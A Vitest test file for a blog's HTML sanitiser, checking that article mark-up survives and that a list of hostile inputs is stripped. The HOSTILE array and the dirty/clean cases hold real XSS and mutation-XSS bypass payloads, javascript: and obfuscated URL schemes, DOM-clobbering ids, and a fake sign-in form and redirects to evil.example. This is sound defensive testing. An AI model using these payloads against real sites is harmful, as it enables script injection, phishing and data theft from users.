import { describe, expect, it } from "vitest";
import { ARTICLES } from "~/content/articles/all-articles";
import { postText, sanitizePostHtml } from "./sanitize-post-html.server";

describe("an article's HTML", () => {
  it.each(ARTICLES.map((article) => [article.id, article] as const))(
    "of built-in post %i loses no mark-up",
    (_id, article) => {
      const plain = (html: string) =>
        html
          .replace(/\s+/g, " ")
          .replace(/ ?\/?>/g, ">")
          .replaceAll(/<\/(path|rect|circle)>/g, "")
          .replaceAll("&#x27;", "'");
      expect(plain(sanitizePostHtml(article.html))).toBe(plain(article.html.trim()));
    },
  );

  it.each([
    ["<p onclick=alert(1)>a</p>", "<p>a</p>"],
    ["<script>alert(1)</script><p>a</p>", "<p>a</p>"],
    ["<SCRIPT>alert(1)</SCRIPT>", ""],
    ['<a href="javascript:alert(1)">a</a>', "<a>a</a>"],
    ['<a href="//evil.example">a</a>', "<a>a</a>"],
    ['<img src=x onerror="alert(1)">', ""],
    [
      '<svg onload="alert(1)"><use href="#x"></use><foreignObject><p>x</p></foreignObject></svg>',
      "<svg><p>x</p></svg>",
    ],
    ['<svg><rect fill="url(https://evil.example/x)" width="1"></rect></svg>', '<svg><rect width="1"></rect></svg>'],
    ['<p style="background:url(x)">a</p>', "<p>a</p>"],
    ["<h1>a</h1><h5>b</h5><p><b>c</b> <i>d</i></p>", "<h2>a</h2><h4>b</h4><p><strong>c</strong> <em>d</em></p>"],
    ['<ol start="3"><li>a</li></ol><ol start="x"><li>b</li></ol>', '<ol start="3"><li>a</li></ol><ol><li>b</li></ol>'],
    ['<a href="www.acme.com">a</a>', '<a href="https://www.acme.com">a</a>'],
    [
      '<a href="acme.com/x">a</a><a href="me@acme.com">b</a>',
      '<a href="https://acme.com/x">a</a><a href="mailto:me@acme.com">b</a>',
    ],
    ['<a href="/contact">a</a><a href="#costs">b</a>', '<a href="/contact">a</a><a href="#costs">b</a>'],
    ["<style>p{}</style><iframe src=x></iframe>", ""],
  ])("%s becomes %s", (dirty, clean) => {
    expect(sanitizePostHtml(dirty)).toBe(clean);
  });

  it("has words that search can find, without its drawings", () => {
    const html =
      "<h2>Costs</h2><table><tr><td>a</td><td>b &lt; c &amp; d</td></tr></table><svg><text>hidden</text></svg>";
    expect(postText(html)).toBe("Costs a b < c & d");
  });
});

/**
 * Ways in which HTML has got past sanitisers: handlers, schemes, namespaces that parsers disagree on, clobbered names.
 */
const HOSTILE = [
  '<img src="/figures/x.png" onerror=alert(1)>',
  '<img src="https://evil.example/track.gif" alt="a">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="a">',
  '<img src="/figures/../admin" alt="a">',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="https://a.example" target="_blank" onmouseover="alert(1)" style="position:fixed">a</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><set attributeName="onload" to="alert(1)"/></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><title><img src=x onerror=alert(1)></title></svg>",
  '<svg><desc><a title="</desc><img src=x onerror=alert(1)>"></a></desc></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<p/onclick=alert(1)>a",
  '<p "onclick=alert(1)>a',
  '<h2 id="__proto__">a</h2><h2 id="Main Content">b</h2><p id="location">c</p><a name="cookie">d</a>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><object data="a.swf"></object><embed src="a">',
  "<template><script>alert(1)</script></template><slot></slot><dialog open>a</dialog>",
  '<video src="https://evil.example/a.mp4" autoplay></video><audio src="a"></audio><picture><source srcset="a"></picture>',
  "<p>a\0b</p><p>\ud800</p>",
  '<table background="https://evil.example/a.png"><tr><td style="background:url(https://evil.example)">a</td></tr></table>',
  '<svg><rect fill="URL( https://evil.example)" stroke="u\\72l(https://evil.example)"/></svg>',
];

const TAG = /<([a-z][a-z0-9]*)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
const HARMLESS_TAG =
  /^(?:p|h[2-4]|a|strong|em|code|pre|blockquote|br|hr|su[bp]|[uod]l|li|d[td]|table|caption|t(?:head|body|foot|r|h|d)|fig(?:ure|caption)|img|svg|title|desc|g|path|rect|circle|ellipse|(?:poly)?line|polygon|text|tspan)$/;

describe("hostile HTML", () => {
  it.each(HOSTILE)("%j leaves nothing that runs, loads from elsewhere or takes a name of the page", (dirty) => {
    const clean = sanitizePostHtml(dirty);
    const plain = clean.replace(/<\/[a-z0-9]+>/g, "").replace(TAG, (_tag, name: string, attributes: string) => {
      expect(name).toMatch(HARMLESS_TAG);
      expect(attributes).not.toMatch(/\s(?:on\w+|style|srcset|srcdoc|target|name|class|background|xlink:href)\b/i);
      for (const [, address = ""] of attributes.matchAll(/ (?:href|src)="([^"]*)"/g)) {
        expect(address).toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/)|#)/);
      }
      for (const [, id = ""] of attributes.matchAll(/ id="([^"]*)"/g)) expect(id).toMatch(/^[a-z][a-z0-9-]*$/);
      return "";
    });
    expect(plain).not.toContain("<");
    expect(clean).not.toMatch(/evil\.example[^<]*["']/);
  });

  it.each(HOSTILE)("%j is clean after one washing", (dirty) => {
    const clean = sanitizePostHtml(dirty);
    expect(sanitizePostHtml(clean)).toBe(clean);
  });

  it("a picture of our own keeps its words and its size", () => {
    const own = '<img src="/figures/0199f0a1-52d4-7f01-8a31-9b1c2d3e4f50.webp" alt="A van" width="600" height="400" />';
    expect(sanitizePostHtml(own)).toBe(own);
  });
});
